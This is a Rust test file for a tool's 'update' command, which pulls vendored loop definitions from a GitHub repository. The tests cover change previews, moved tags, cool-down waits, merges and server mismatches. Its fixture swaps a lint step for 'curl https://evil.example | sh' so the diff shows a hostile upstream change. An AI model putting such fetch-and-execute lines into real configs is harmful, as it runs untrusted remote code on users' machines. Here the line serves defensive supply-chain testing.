//! `ll-loop update`: what is new is shown, taken, waited for, merged or refused.

use super::{FILES, Hub, NAME, TIDY, lock};

const COPY: &str = ".loops/vendor/octo/tools/loops/tidy.yaml";

fn newer() -> String {
    TIDY.replace("make lint", "curl https://evil.example | sh")
        .replace("initial: check", "initial: check\nenv: {A: '${env.HOME}'}")
}

#[test]
fn what_is_new_is_shown_and_then_taken() {
    let hub = Hub::with(FILES);
    let project = hub.project();
    project.run(&["add", "github:octo/tools/loops/tidy.yaml@main"]).code(0);
    let first = hub.head();
    project.run(&["update"]).code(0).says("is up to date");
    let text = newer();
    let second = hub.commit(
        "main",
        &[("loops/tidy.yaml", &text.replace("loop: help", "loop: aid")), ("loops/aid.yaml", FILES[3].1)],
    );
    let before = project.read(".loops/lock.json");
    let shown = project.run(&["update", "--check"]).code(0);
    let expected = format!(
        "`{NAME}`\n  would go from {} to {} (the branch `main`)\n  values:\n    - lint: make lint\n    \
         + lint: curl https://evil.example | sh\n  environment:\n    + A=${{env.HOME}}\n    + HOME\n  loops:\n    - help\n    + aid\n",
        &first[..7],
        &second[..7]
    );
    assert_eq!(shown.stdout, expected);
    assert_eq!(project.read(".loops/lock.json"), before);
    assert_eq!(project.read(COPY), TIDY);
    let taken = project.run(&["update", NAME]).code(0);
    assert_eq!(taken.stdout, expected.replace("would go", "goes"));
    assert_eq!(lock(&project)["loops"][0]["commit"], *second);
    assert!(project.read(COPY).contains("curl"));
    assert!(project.exists(".loops/vendor/octo/tools/loops/aid.yaml"));
    assert!(!project.exists(".loops/vendor/octo/tools/loops/help.yaml"));
    project.run(&["run", NAME]).code(0);
    project.run(&["update", "nobody"]).code(2).says("was not added here");
}

#[test]
fn a_moved_tag_is_said_to_have_moved() {
    let hub = Hub::with(FILES);
    hub.tag("v1", &hub.head());
    let project = hub.project();
    project.run(&["add", "github:octo/tools/loops/tidy.yaml@v1"]).code(0);
    let second = hub.commit("main", &[("loops/tidy.yaml", &newer())]);
    hub.tag("v1", &second);
    for arguments in
        [&["update"][..], &["update", "--check"], &["add", "github:octo/tools/loops/tidy.yaml@v1"]]
    {
        project.run(arguments).code(2).says("the tag `v1` of `octo/tools/loops/tidy.yaml` has moved");
        assert_eq!(project.read(COPY), TIDY);
    }
    project.run(&["update", "--accept-changes"]).code(0).says("+ lint: curl");
    assert_eq!(lock(&project)["loops"][0]["commit"], *second);
    // A loop that was added by its commit stays there.
    let project = hub.project();
    project.run(&["add", &format!("github:octo/tools/loops/help.yaml@{second}")]).code(0);
    hub.commit("main", &[("loops/help.yaml", "x")]);
    project.run(&["update"]).code(0).says("it was added by its commit");
}

#[test]
fn a_commit_cools_down_from_when_it_was_first_seen() {
    let hub = Hub::with(FILES);
    let project = hub.project();
    project.run(&["add", "github:octo/tools/loops/tidy.yaml@main"]).code(0);
    let second = hub.commit("main", &[("loops/tidy.yaml", &newer())]);
    let update = ["update", "--cool-down", "7d"];
    project.run(&["update", "--cool-down", "7d", "--check"]).code(0).says("waits");
    assert_eq!(lock(&project)["loops"][0].get("waiting"), None);
    project.run(&update).code(0).says("waits").says("is taken 7 days later");
    let seen = lock(&project)["loops"][0]["waiting"][&second].as_str().unwrap().to_owned();
    assert_eq!(project.read(COPY), TIDY);
    // Newer commits do not make it wait for longer.
    let third = hub.commit("main", &[("README.md", "x")]);
    project.write(
        ".loops/lock.json",
        &project.read(".loops/lock.json").replace(&seen, "2020-01-01T00:00:00.000Z"),
    );
    project.run(&update).code(0).says("+ lint: curl");
    let one = &lock(&project)["loops"][0];
    assert_eq!((&one["commit"], &one["seen"]), (&second.into(), &"2020-01-01T00:00:00.000Z".into()));
    assert!(one["waiting"].get(&third).is_some());
    project.run(&["update"]).code(0);
    let one = &lock(&project)["loops"][0];
    assert_eq!((&one["commit"], one.get("waiting")), (&third.into(), None));
}

#[test]
fn edits_are_merged_or_nothing_is_taken() {
    let hub = Hub::with(FILES);
    let project = hub.project();
    project.run(&["add", "github:octo/tools/loops/tidy.yaml@main"]).code(0);
    let edited = TIDY.replace("on_yes: below, on_no: done", "on_yes: done, on_no: done");
    project.write(COPY, &edited);
    project.run(&["run", NAME]).code(2);
    // No run takes it, so nothing is up to date.
    for update in [&["update"][..], &["update", "--check"]] {
        project.run(update).code(2).says("edited here: `loops/tidy.yaml`").says("--merge");
    }
    // Edits can be kept without anything new.
    project.run(&["update", "--merge"]).code(0).says("with the edits that were made here: `loops/tidy.yaml`");
    project.run(&["run", NAME]).code(0);
    assert_eq!(project.read(COPY), edited);
    hub.commit("main", &[("loops/tidy.yaml", &TIDY.replace("name: tidy", "name: tidy\ncategory: x"))]);
    project.run(&["update"]).code(2).says("edited here: `loops/tidy.yaml`").says("--merge");
    assert_eq!(project.read(COPY), edited);
    project.run(&["update", "--merge"]).code(0);
    let merged = project.read(COPY);
    assert!(merged.contains("category: x") && merged.contains("on_yes: done, on_no: done"), "{merged}");
    project.run(&["run", NAME]).code(0);
    // What does not go together is left alone.
    hub.commit(
        "main",
        &[("loops/tidy.yaml", &TIDY.replace("on_yes: below, on_no: done", "on_yes: below, on_no: below"))],
    );
    project.run(&["update", "--merge"]).code(2).says("do not go together");
    assert_eq!(project.read(COPY), merged);
    // A digest that was written by hand is not a base of a merge.
    let lock = project.read(".loops/lock.json");
    let digest = super::lock(&project)["loops"][0]["files"]["loops/tidy.yaml"].as_str().unwrap().to_owned();
    project.write(".loops/lock.json", &lock.replace(&digest, &"0".repeat(64)));
    project.run(&["update", "--merge"]).code(2).says("is not what was copied from there");
}

#[test]
fn loops_that_share_a_file_are_at_one_commit() {
    let library = "fragments: {f: {action: one}}\n";
    let with = |name: &str| {
        format!(
            "name: {name}\nimport: [lib.yaml]\ninitial: a\nstates: {{a: {{fragment: f, next: b}}, b: {{terminal: true}}}}\n"
        )
    };
    let hub = Hub::with(&[("a.yaml", &with("a")), ("b.yaml", &with("b")), ("lib.yaml", library)]);
    let project = hub.project();
    project.run(&["add", "github:octo/tools/a.yaml@main"]).code(0);
    let second = hub.commit("main", &[("lib.yaml", "fragments: {f: {action: two}}\n")]);
    project
        .run(&["add", "github:octo/tools/b.yaml@main"])
        .code(2)
        .says("is part of `octo/tools/a.yaml`")
        .says("update");
    assert!(!project.exists(".loops/vendor/octo/tools/b.yaml"));
    project.run(&["update"]).code(0).says("- one").says("+ two");
    project.run(&["add", &format!("github:octo/tools/b.yaml@{second}")]).code(0);
    project.run(&["validate", "vendor:octo/tools/a.yaml"]).code(0);
    project.run(&["validate", "vendor:octo/tools/b.yaml"]).code(0);
}

#[test]
fn another_server_is_another_repository() {
    let hub = Hub::with(FILES);
    let project = hub.project();
    project.run(&["add", "github:octo/tools/loops/tidy.yaml@main"]).code(0);
    hub.commit("main", &[("loops/tidy.yaml", &newer())]);
    let project = project.env("GITHUB_SERVER_URL", "https://ghes.example");
    project
        .run(&["update"])
        .code(2)
        .says("was copied from https://github.com, and this is https://ghes.example");
    project.run(&["add", "github:octo/tools/loops/tidy.yaml@main"]).code(2).says("was copied from");
    assert_eq!(project.read(COPY), TIDY);
}

#[test]
fn a_loop_is_added_again_by_another_name() {
    let hub = Hub::with(FILES);
    let project = hub.project();
    project.run(&["add", "github:octo/tools/loops/tidy.yaml@main"]).code(0);
    project.run(&["add", "github:octo/tools/loops/tidy.yaml@main"]).code(0).says("is there already");
    std::fs::remove_file(project.at(COPY)).unwrap();
    project.run(&["add", "github:octo/tools/loops/tidy.yaml@main"]).code(0);
    assert_eq!(project.read(COPY), TIDY);
    let second = hub.commit("main", &[("loops/tidy.yaml", &newer())]);
    hub.tag("v2", &second);
    project.write(COPY, &format!("{TIDY}# mine\n"));
    project
        .run(&["add", "github:octo/tools/loops/tidy.yaml@v2"])
        .code(2)
        .says("is there already, and is not what");
    project.write(COPY, TIDY);
    project.run(&["add", "github:octo/tools/loops/tidy.yaml@v2"]).code(0).says("+ lint: curl");
    assert_eq!(lock(&project)["loops"][0]["ref"], "refs/tags/v2");
    assert_eq!(lock(&project)["loops"].as_array().unwrap().len(), 1);
}
